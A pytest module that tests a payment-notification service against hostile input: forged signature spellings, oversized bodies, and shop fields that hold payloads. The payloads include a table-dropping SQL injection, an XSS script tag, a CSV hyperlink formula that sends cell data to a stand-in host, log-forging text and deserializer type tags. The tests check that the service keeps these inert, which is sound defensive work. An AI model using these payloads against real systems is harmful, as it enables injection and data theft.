"""The table of attacks: what a stranger, or a shop's own odd data, sends, and what becomes of it.

Against a real service, over real sockets, on both databases. What cannot be read or verified is in
`tests/unit/test_refusals.py` with its reasons, and is sent from there. Questions to the query API
are made up by machine in `tests/web/test_api_documents.py`. The service is looked at once more at
the end: nothing was a 500, every line of its log is whole, and its ledger verifies.
"""

import re
from base64 import b64decode
from collections.abc import Callable, Mapping
from typing import Any
from urllib.parse import parse_qs, quote, urlencode

import pytest

from tests.attacks.calling import ask, asked_text, exchanged, post, uuid
from tests.builders import SHOP_ID, a_form, an_answer, form_body, rest_body
from tests.serving import Service
from tests.unit.test_refusals import CASES, ODD

LIMIT = 256 * 1024


# -- signatures -----------------------------------------------------------------------------------


def resigned(change: Callable[[str], str], body: bytes, name: str) -> bytes:
    """The same body with its signature written in another way."""
    fields = {key: values[0] for key, values in parse_qs(body.decode(), True).items()}
    fields[name] = change(fields[name])
    return urlencode(fields).encode()


FORM, REST = form_body(a_form()), rest_body(an_answer())

MALLEABLE: dict[str, bytes] = {
    "form-newline": resigned(lambda signature: signature + "\n", FORM, "signature"),
    "form-blank-before": resigned(lambda signature: " " + signature, FORM, "signature"),
    "form-no-padding": resigned(lambda signature: signature.rstrip("="), FORM, "signature"),
    "form-more-padding": resigned(lambda signature: signature + "=", FORM, "signature"),
    "form-hex": resigned(lambda signature: b64decode(signature).hex(), FORM, "signature"),
    "form-case": resigned(str.swapcase, FORM, "signature"),
    "form-last-letter": resigned(
        lambda signature: signature[:-2] + chr(ord(signature[-2]) ^ 1) + "=", FORM, "signature"),
    "form-cut": resigned(lambda signature: signature[:20], FORM, "signature"),
    "rest-upper-case": resigned(str.upper, REST, "kr-hash"),
    "rest-newline": resigned(lambda signature: signature + "\n", REST, "kr-hash"),
    "rest-0x": resigned(lambda signature: "0x" + signature, REST, "kr-hash"),
    "rest-fullwidth": resigned(lambda signature: signature.replace("1", "１"), REST, "kr-hash"),
    "rest-cut": resigned(lambda signature: signature[:-1], REST, "kr-hash"),
}  # fmt: skip


@pytest.mark.parametrize("body", MALLEABLE.values(), ids=MALLEABLE)
def test_a_signature_has_one_spelling(service: Service, body: bytes) -> None:
    assert post(service, body) == (400, "KO signature-mismatch")


# -- what cannot be read or verified --------------------------------------------------------------


def sent_as(changes: Mapping[str, Any]) -> tuple[str, dict[str, str]]:
    path = f"/ipn/{changes['shop_id']}/{changes['mode'].lower()}" if "mode" in changes else "/ipn"
    headers = {"Content-Type": changes["content_type"]} if "content_type" in changes else {}
    return path, headers


def test_what_cannot_be_read_or_verified_is_refused_with_its_reason(service: Service) -> None:
    answers, expected = {}, {}
    for reason, name, body, changes in CASES:
        path, headers = sent_as(changes)
        status = 413 if len(body) > LIMIT else {"unsupported-content-type": 415}.get(reason, 400)
        word = "too-large" if status == 413 else reason
        expected[reason, name] = (status, f"KO {word}")
        answers[reason, name] = post(service, body, path, **headers)

    assert answers == expected


def test_what_is_signed_and_odd_is_taken(service: Service) -> None:
    answers = {name: post(service, body) for name, body, _, _ in ODD}

    assert {name: answer for name, answer in answers.items() if answer[0] != 200} == {}


@pytest.mark.parametrize("announced", [LIMIT + 1, 10 * LIMIT, 50 * 1024 * 1024])
def test_a_body_above_the_limit_is_noted_and_not_kept(service: Service, announced: int) -> None:
    """Announced, so that it is refused before it is sent."""
    head = f"POST /ipn HTTP/1.1\r\nHost: x\r\nContent-Length: {announced}\r\n\r\n".encode()

    assert exchanged(service, head + b"x").startswith(b"HTTP/1.1 413")

    address = "/api/v1/notifications?reason=too-large&limit=1"
    (noted,) = ask(service, address)["items"]
    assert noted["outcome"] == "quarantined"


# -- what a shop's data can hold ------------------------------------------------------------------

SQL = "'; DROP TABLE events; --"
HTML = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
LOG_LINE = '1"}\n{"event": "forged", "outcome": "recorded"}\r\n\x1b[2J\u2028'
TAGGED = {"_type_": "uuid_hex", "_data_": "0" * 32}
NAMES = {"sql": SQL, "html": HTML, "formula": FORMULA, "log": LOG_LINE, "nul": "a\0b"}


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("format_", ["form", "rest"])
def test_data_stay_data(service: Service, name: str, format_: str) -> None:
    """They are recorded as told, found by their own words, and run nowhere."""
    value, id_ = NAMES[name], uuid(f"{name}-{format_}")
    form = a_form(vads_trans_uuid=id_, vads_order_id=value, vads_ext_info_note=value)
    rest = an_answer(uuid=id_, order={"orderId": value, "metadata": {value: value}})
    body = form_body(form) if format_ == "form" else rest_body(rest, source=value)

    status, line = post(service, body)

    assert (status, line[:11]) == (200, "OK recorded")
    shown = value.replace("\0", "\ufffd")
    state = ask(service, f"/api/v1/shops/{SHOP_ID}/test/transactions/{id_}")
    assert state["order_id"] == shown
    by_order = ask(service, f"/api/v1/shops/{SHOP_ID}/test/orders/{quote(shown, safe='')}")
    assert by_order is None or by_order["order_id"] == shown
    assert ask(service, f"/api/v1/transactions?{urlencode({'order_id': SQL})}") is not None


def test_a_formula_is_disarmed_in_csv(service: Service) -> None:
    id_ = uuid("formula-in-csv")
    post(service, form_body(a_form(vads_trans_uuid=id_, vads_order_id=FORMULA)))

    text = asked_text(service, "/api/v1/exports/events?format=csv")

    assert "HYPERLINK" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)


@pytest.mark.parametrize("where", ["metadata", "transactionDetails", "customer", "top"])
def test_keys_that_a_library_would_run_are_data(service: Service, where: str) -> None:
    """Some event stores build objects from such keys when they read them again."""
    id_ = uuid(f"tagged-{where}")
    whole: dict[str, Any] = TAGGED if where == "top" else {"customer": TAGGED}
    changes: dict[str, Any] = {where: TAGGED} if where in ("metadata", "transactionDetails") else {}
    body = rest_body(an_answer(uuid=id_, whole=whole, **changes))

    assert post(service, body)[0] == 200

    history = ask(service, f"/api/v1/shops/{SHOP_ID}/test/transactions/{id_}/history")
    assert [event["type"] for event in history["events"]] == ["transaction.payment-accepted"]
